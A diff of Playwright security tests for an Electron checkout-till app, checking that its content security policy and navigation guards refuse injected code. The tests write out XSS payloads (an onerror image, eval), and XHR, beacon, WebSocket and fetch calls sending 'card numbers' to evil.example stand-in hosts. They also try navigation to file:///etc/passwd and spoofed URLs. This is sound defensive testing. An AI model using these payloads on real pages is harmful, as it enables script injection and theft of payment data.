@@ -12,6 +12,7 @@ import { startEvilHost } from './evil-host.ts';
 import type { Target } from './till.ts';
 import type { TillApp } from './till-app.ts';
 import { bothPages, insert, logged } from './both-pages.ts';
+import { sendsNothingByWebRtc } from './web-rtc.ts';
 
 /** The customer's own screen; null where no second one can be plugged in. */
 async function customersPage({ till, counter }: TillApp, target: Target): Promise<Page | null> {
@@ -42,10 +43,10 @@ function bridgeOf(role: Role): string[] {
   return [...Object.keys(channels[role].calls), ...heard].toSorted();
 }
 
-test('S-10, S-11, S-12: each window is created safe, in a session of its own, with exactly its own bridge and no permission', async ({ runningApp: app, target }) => {
-  const display = await customersPage(app, target);
-  const [till, checkout] = await bothPages(app);
+/** The pages of a register, with a form on the screen. */
+type Pages = { readonly till: Page; readonly checkout: Page; readonly display: Page | null };
 
+async function createsEachWindowSafe(app: TillApp, { till, checkout, display }: Pages): Promise<void> {
   const created = (await app.counter.recorded('webContents.created')) as readonly Readonly<Record<string, unknown>>[];
   expect(created.length).toBeGreaterThanOrEqual(2);
   for (const preferences of created) {
@@ -77,7 +78,9 @@ test('S-10, S-11, S-12: each window is created safe, in a session of its own, wi
       expect(bridges).toEqual(frame === page.mainFrame() ? own[role] : []);
     }
   }
+}
 
+async function grantsNothing(app: TillApp, pages: readonly Page[], target: Target): Promise<void> {
   for (const page of pages) {
     for (const frame of page.frames()) {
       expect(await grantedTo(frame)).toEqual([]);
@@ -100,7 +103,140 @@ test('S-10, S-11, S-12: each window is created safe, in a session of its own, wi
     expect(devices.asked).toBeGreaterThan(0);
     expect(devices.granted).toEqual([]);
   }
+}
+
+async function runsNothing(app: TillApp, pages: readonly Page[]): Promise<void> {
+  for (const page of pages) {
+    const violated = await page.evaluate(async () => {
+      const directives = new Set<string>();
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective));
+      const tried = (attempt: () => unknown) => {
+        try {
+          return attempt();
+        } catch {
+          return undefined;
+        }
+      };
+      const put = (name: string, values: Readonly<Record<string, string>>) => {
+        const element = document.createElement(name);
+        for (const [key, value] of Object.entries(values)) tried(() => ((element as unknown as Record<string, string>)[key] = value));
+        document.body.append(element);
+        return element;
+      };
+      const run = 'window.injected = true';
+      put('script', { textContent: run });
+      put('script', { src: 'https://script.evil.example/x.js' });
+      put('div', { innerHTML: `<img src=x onerror="${run}">` });
+      const clicked = put('i', {});
+      tried(() => clicked.setAttribute('onclick', run));
+      clicked.click();
+      put('img', { src: 'https://img.evil.example/x.png' });
+      put('iframe', { src: 'https://frame.evil.example/' });
+      put('style', { textContent: 'body { display: none }' });
+      put('link', { rel: 'stylesheet', href: 'https://style.evil.example/x.css' });
+      put('base', { href: 'https://base.evil.example/' });
+      put('object', { data: 'https://object.evil.example/' });
+      // Not in this evaluation itself: DevTools' own code may use eval.
+      await new Promise<void>((resolve) => {
+        setTimeout(() => {
+          // oxlint-disable-next-line no-eval -- that it is refused is what is tested
+          tried(() => (0, eval)(run));
+          // oxlint-disable-next-line typescript/no-implied-eval -- as above
+          tried(() => new Function(run)());
+          resolve();
+        });
+      });
+      const elsewhere: string = 'https://module.evil.example/x.js';
+      await import(elsewhere).catch(() => undefined);
+      const request = new XMLHttpRequest();
+      request.open('POST', 'https://connect.evil.example/');
+      const sent = new Promise((resolve) => request.addEventListener('loadend', resolve));
+      tried(() => request.send('card numbers'));
+      await sent;
+      tried(() => navigator.sendBeacon('https://beacon.evil.example/', 'card numbers'));
+      tried(() => new WebSocket('wss://socket.evil.example/'));
+      tried(() => new Worker(URL.createObjectURL(new Blob([run]))));
+      await fetch('https://fetch.evil.example/').catch(() => undefined);
+      // Refused by another process of Chromium, which reports it later.
+      while (!directives.has('frame-src')) await new Promise((resolve) => setTimeout(resolve, 10));
+      return { directives: [...directives].toSorted(), injected: 'injected' in window };
+    });
+    expect(violated).toEqual({
+      directives: ['base-uri', 'connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-elem'],
+      injected: false,
+    });
+  }
+  // Nothing came as far as the request filter, which is the next wall.
+  expect(logged(app, 'window.request-refused')).toEqual([]);
+  // The checkout page's own guard in front of fetch tells main of it as well.
+  expect(logged(app, 'checkout-page.request-refused')).toEqual(['{"detail":"https://fetch.evil.example"}']);
+}
+
+async function leadsNowhere(app: TillApp, pages: readonly [till: Page, checkout: Page]): Promise<void> {
+  const openedBefore = await app.counter.recorded('shell.openExternal');
+  const { port } = new URL(pages[1].url());
+  const navigate = (page: Page, url: string) =>
+    page.evaluate((to) => {
+      location.href = to;
+    }, url);
+
+  for (const page of pages) {
+    const role = page === pages[0] ? 'till' : 'checkout';
+    const address = page.url();
+    const title = await page.title();
+    const refused = [
+      `http://localhost.evil.example/${role}`,
+      `http://localhost:${port}@evil.example/${role}`,
+      `http://127.0.0.1:${port}/${role}`,
+      `http://localhost:${port}/${role}`,
+      `http://[::1]:1/${role}`,
+      `https://components.justifi.ai.evil.example/${role}`,
+      `https://components.justifi.ai@evil.example/${role}?secret=in-the-query`,
+      `app://other/${role}`,
+      `app://till.evil.example/${role}`,
+    ];
+    // The address without what the log must not carry: names in front of the host, queries.
+    const line = (url: string) => `{"url":"${url.replace(/^(https?:\/\/)[^/@]*@/u, '$1').replace(/\?.*$/u, '')}"}`;
+    const expectRefused = (what: string, url: string) => expect.poll(() => logged(app, what).filter((each) => each === line(url))).toHaveLength(1);
+    for (const url of refused) {
+      const before = logged(app, 'window.navigation-refused').length;
+      await navigate(page, url);
+      await expect.poll(() => logged(app, 'window.navigation-refused').slice(before)).toEqual([line(url)]);
+    }
+    // Chromium itself or the page's policy stops these, so no guard hears of them.
+    for (const url of ['file:///etc/passwd', 'javascript:document.title="taken over"', 'data:text/html,taken over']) await navigate(page, url);
+    await insert(page, 'form', { action: `http://form-${role}.evil.example/`, method: 'post' }, 'submit');
+    await insert(page, 'a', { href: `http://link-${role}.evil.example/` }, 'click');
+    await expectRefused('window.navigation-refused', `http://link-${role}.evil.example/`);
+    await insert(page, 'meta', { 'http-equiv': 'refresh', content: `0;url=http://meta-${role}.evil.example/` });
+    await expectRefused('window.navigation-refused', `http://meta-${role}.evil.example/`);
+    await insert(page, 'a', { href: `http://new-${role}.evil.example/`, target: '_blank' }, 'click');
+    await expectRefused('window.open-refused', `http://new-${role}.evil.example/`);
+    await page.evaluate((url) => window.open(url, 'pop-up', 'width=300,height=200'), `http://opened-${role}.evil.example/`);
+    await expectRefused('window.open-refused', `http://opened-${role}.evil.example/`);
+    const file = await page.evaluate(() => URL.createObjectURL(new Blob(['card numbers'])));
+    await insert(page, 'a', { href: file, download: 'cards.txt' }, 'click');
+    await expect.poll(() => logged(app, 'window.download-refused')).toContain(`{"role":"${role}"}`);
+    expect(page.url()).toBe(address);
+    expect(await page.title()).toBe(title);
+  }
+  // Counter's own windows come and go; no other stays.
+  await expect.poll(() => app.counter.windows().map(addressOf).filter((address) => !/^(app:\/\/till|http:\/\/localhost:\d+)\/$/u.test(address))).toEqual([]);
+  for (const never of ['form-till', 'form-checkout', 'in-the-query', 'taken over', 'passwd']) expect(app.log()).not.toContain(never);
+  expect((await app.counter.recorded('shell.openExternal')).slice(openedBefore.length)).toEqual([]);
+}
+
+test('S-10, S-11, S-12, A-05, S-04, S-13: with a form on the screen, no page is more than a window of its own, with its own bridge', async ({ runningApp: app, target }) => {
+  const display = await customersPage(app, target);
+  const both = await bothPages(app);
+  const [till, checkout] = both;
+  await test.step('S-10, S-11: each window is created safe, in a session of its own, with exactly its own bridge', () => createsEachWindowSafe(app, { till, checkout, display }));
+  await test.step('S-12: no page has a permission', () => grantsNothing(app, display === null ? both : [...both, display], target));
   if (display !== null) await takeAwayCustomersPage(app);
+  await test.step('A-05: neither the till, the form nor a card field sends a byte by WebRTC, over TCP or TLS', () => sendsNothingByWebRtc(app, checkout));
+  await test.step('S-04: code put into either page does not run and reaches no server', () => runsNothing(app, both));
+  // It spends the pages.
+  await test.step('S-13: neither page leads anywhere: not by a link, a form, a script, a new window or a download', () => leadsNowhere(app, both));
 });
 
 test('S-14, S-04: a page that was taken over reaches main only through the calls of its own window, and no host at all; each try is logged', async ({ target, openTill }, info) => {
@@ -186,128 +322,6 @@ test('S-14, S-04: a page that was taken over reaches main only through the calls
   await expect(till.getByRole('note')).toHaveText(/^The amount changed on the way\. Nothing was charged\./u);
   expect(app.journal().events.map(({ kind }) => kind)).not.toContain('submit-allowed');
   evil.close();
-});
-
-test('S-13: neither page leads anywhere: not by a link, a form, a script, a new window or a download', async ({ runningApp: app }) => {
-  const openedBefore = await app.counter.recorded('shell.openExternal');
-  const pages = await bothPages(app);
-  const { port } = new URL(pages[1].url());
-  const navigate = (page: Page, url: string) =>
-    page.evaluate((to) => {
-      location.href = to;
-    }, url);
-
-  for (const page of pages) {
-    const role = page === pages[0] ? 'till' : 'checkout';
-    const address = page.url();
-    const title = await page.title();
-    const refused = [
-      `http://localhost.evil.example/${role}`,
-      `http://localhost:${port}@evil.example/${role}`,
-      `http://127.0.0.1:${port}/${role}`,
-      `http://localhost:${port}/${role}`,
-      `http://[::1]:1/${role}`,
-      `https://components.justifi.ai.evil.example/${role}`,
-      `https://components.justifi.ai@evil.example/${role}?secret=in-the-query`,
-      `app://other/${role}`,
-      `app://till.evil.example/${role}`,
-    ];
-    // The address without what the log must not carry: names in front of the host, queries.
-    const line = (url: string) => `{"url":"${url.replace(/^(https?:\/\/)[^/@]*@/u, '$1').replace(/\?.*$/u, '')}"}`;
-    const expectRefused = (what: string, url: string) => expect.poll(() => logged(app, what).filter((each) => each === line(url))).toHaveLength(1);
-    for (const url of refused) {
-      const before = logged(app, 'window.navigation-refused').length;
-      await navigate(page, url);
-      await expect.poll(() => logged(app, 'window.navigation-refused').slice(before)).toEqual([line(url)]);
-    }
-    // Chromium itself or the page's policy stops these, so no guard hears of them.
-    for (const url of ['file:///etc/passwd', 'javascript:document.title="taken over"', 'data:text/html,taken over']) await navigate(page, url);
-    await insert(page, 'form', { action: `http://form-${role}.evil.example/`, method: 'post' }, 'submit');
-    await insert(page, 'a', { href: `http://link-${role}.evil.example/` }, 'click');
-    await expectRefused('window.navigation-refused', `http://link-${role}.evil.example/`);
-    await insert(page, 'meta', { 'http-equiv': 'refresh', content: `0;url=http://meta-${role}.evil.example/` });
-    await expectRefused('window.navigation-refused', `http://meta-${role}.evil.example/`);
-    await insert(page, 'a', { href: `http://new-${role}.evil.example/`, target: '_blank' }, 'click');
-    await expectRefused('window.open-refused', `http://new-${role}.evil.example/`);
-    await page.evaluate((url) => window.open(url, 'pop-up', 'width=300,height=200'), `http://opened-${role}.evil.example/`);
-    await expectRefused('window.open-refused', `http://opened-${role}.evil.example/`);
-    const file = await page.evaluate(() => URL.createObjectURL(new Blob(['card numbers'])));
-    await insert(page, 'a', { href: file, download: 'cards.txt' }, 'click');
-    await expect.poll(() => logged(app, 'window.download-refused')).toContain(`{"role":"${role}"}`);
-    expect(page.url()).toBe(address);
-    expect(await page.title()).toBe(title);
-  }
-  // Counter's own windows come and go; no other stays.
-  await expect.poll(() => app.counter.windows().map(addressOf).filter((address) => !/^(app:\/\/till|http:\/\/localhost:\d+)\/$/u.test(address))).toEqual([]);
-  for (const never of ['form-till', 'form-checkout', 'in-the-query', 'taken over', 'passwd']) expect(app.log()).not.toContain(never);
-  expect((await app.counter.recorded('shell.openExternal')).slice(openedBefore.length)).toEqual([]);
-});
-
-test('S-04: code put into either page does not run and reaches no server', async ({ runningApp: app }) => {
-  for (const page of await bothPages(app)) {
-    const violated = await page.evaluate(async () => {
-      const directives = new Set<string>();
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective));
-      const tried = (attempt: () => unknown) => {
-        try {
-          return attempt();
-        } catch {
-          return undefined;
-        }
-      };
-      const put = (name: string, values: Readonly<Record<string, string>>) => {
-        const element = document.createElement(name);
-        for (const [key, value] of Object.entries(values)) tried(() => ((element as unknown as Record<string, string>)[key] = value));
-        document.body.append(element);
-        return element;
-      };
-      const run = 'window.injected = true';
-      put('script', { textContent: run });
-      put('script', { src: 'https://script.evil.example/x.js' });
-      put('div', { innerHTML: `<img src=x onerror="${run}">` });
-      const clicked = put('i', {});
-      tried(() => clicked.setAttribute('onclick', run));
-      clicked.click();
-      put('img', { src: 'https://img.evil.example/x.png' });
-      put('iframe', { src: 'https://frame.evil.example/' });
-      put('style', { textContent: 'body { display: none }' });
-      put('link', { rel: 'stylesheet', href: 'https://style.evil.example/x.css' });
-      put('base', { href: 'https://base.evil.example/' });
-      put('object', { data: 'https://object.evil.example/' });
-      // Not in this evaluation itself: DevTools' own code may use eval.
-      await new Promise<void>((resolve) => {
-        setTimeout(() => {
-          // oxlint-disable-next-line no-eval -- that it is refused is what is tested
-          tried(() => (0, eval)(run));
-          // oxlint-disable-next-line typescript/no-implied-eval -- as above
-          tried(() => new Function(run)());
-          resolve();
-        });
-      });
-      const elsewhere: string = 'https://module.evil.example/x.js';
-      await import(elsewhere).catch(() => undefined);
-      const request = new XMLHttpRequest();
-      request.open('POST', 'https://connect.evil.example/');
-      const sent = new Promise((resolve) => request.addEventListener('loadend', resolve));
-      tried(() => request.send('card numbers'));
-      await sent;
-      tried(() => navigator.sendBeacon('https://beacon.evil.example/', 'card numbers'));
-      tried(() => new WebSocket('wss://socket.evil.example/'));
-      tried(() => new Worker(URL.createObjectURL(new Blob([run]))));
-      await fetch('https://fetch.evil.example/').catch(() => undefined);
-      // Refused by another process of Chromium, which reports it later.
-      while (!directives.has('frame-src')) await new Promise((resolve) => setTimeout(resolve, 10));
-      return { directives: [...directives].toSorted(), injected: 'injected' in window };
-    });
-    expect(violated).toEqual({
-      directives: ['base-uri', 'connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-elem'],
-      injected: false,
-    });
-  }
-  // Nothing came as far as the request filter, which is the next wall.
-  expect(logged(app, 'window.request-refused')).toEqual([]);
-  // The checkout page's own guard in front of fetch tells main of it as well.
-  expect(logged(app, 'checkout-page.request-refused')).toEqual(['{"detail":"https://fetch.evil.example"}']);
 });
 
 test('S-05: a Counter whose page was changed on the disk says so and stops, before a card could be typed into it', async ({ target, userData }, info) => {
